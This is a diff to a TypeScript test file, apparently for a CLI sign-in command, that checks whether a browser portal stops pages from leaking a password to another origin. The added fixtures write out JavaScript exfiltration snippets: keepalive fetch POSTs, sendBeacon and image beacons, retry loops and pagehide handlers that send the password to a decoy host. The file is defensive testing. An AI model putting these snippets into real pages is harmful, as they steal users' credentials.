@@ -221,14 +221,19 @@ function betray(url: string): string {
   return `navigator.sendBeacon('${url}/took', password); new Image().src = '${url}/took?' + password;`;
 }
 
+/** Script of a page that sends another origin the password, which goes on when the page is gone. */
+function tell(url: string): string {
+  return `fetch('${url}/told', { method: 'POST', body: password, keepalive: true })`;
+}
+
 test('a page that is about to send the password to another origin is stopped: exit 4, naming it', async ({
   startServer,
   runCommand,
 }) => {
   const server = await startServer();
   await using decoy = await startDecoy();
-  // A browser does not ask in the order in which a page does what it does at once.
-  const page = drawForm(`${betray(decoy.url)} setTimeout(() => ${POST}, 500);`);
+  // Once that is stopped, it goes nowhere.
+  const page = drawForm(`${betray(decoy.url)} ${tell(decoy.url)}.catch(() => ${POST});`);
   await using portal = await servePortal(server, page);
   const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });
 
@@ -236,6 +241,45 @@ test('a page that is about to send the password to another origin is stopped: ex
   expect(stderr).toContain(decoy.url);
   expect(decoy.heard).toEqual([]);
   expect(portal.submitted).toEqual([]);
+});
+
+const persistent: Readonly<Record<string, (url: string) => string>> = {
+  'again and again': (url) =>
+    `let tries = 300; const go = () => tries-- > 0 && ${tell(url)}.catch(() => {}).then(go); go(); go(); go();`,
+  'when it is left': (url) => `addEventListener('pagehide', () => ${tell(url)}); ${tell(url)};`,
+};
+
+for (const [when, script] of Object.entries(persistent))
+  test(`a page that sends the password to another origin ${when} is stopped until its remote browser lets it go`, async ({
+    startServer,
+    runCommand,
+  }) => {
+    const server = await startServer();
+    await using decoy = await startDecoy();
+    await using portal = await servePortal(server, drawForm(script(decoy.url)));
+    const run = async () => await runCommand('mint-key', { env: signInThere(server, portal) });
+    const first = await run();
+    // What the first lets get away has arrived when this is over.
+    const second = await run();
+
+    expect(first.code, first.stderr).toBe(4);
+    expect(second.code, second.stderr).toBe(4);
+    expect(decoy.heard).toEqual([]);
+  });
+
+test('a page that signs in, and sends the password to another origin as its last word, is left without one', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  await using decoy = await startDecoy();
+  const page = drawForm(`addEventListener('pagehide', () => ${tell(decoy.url)}); ${POST};`);
+  await using portal = await servePortal(server, page);
+  const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });
+
+  expect(code, stderr).toBe(0);
+  expect(portal.submitted).toEqual([server.password]);
+  expect(decoy.heard).toEqual([]);
 });
 
 test('a provider that is about to send the password to another origin is stopped: exit 4, naming it', {
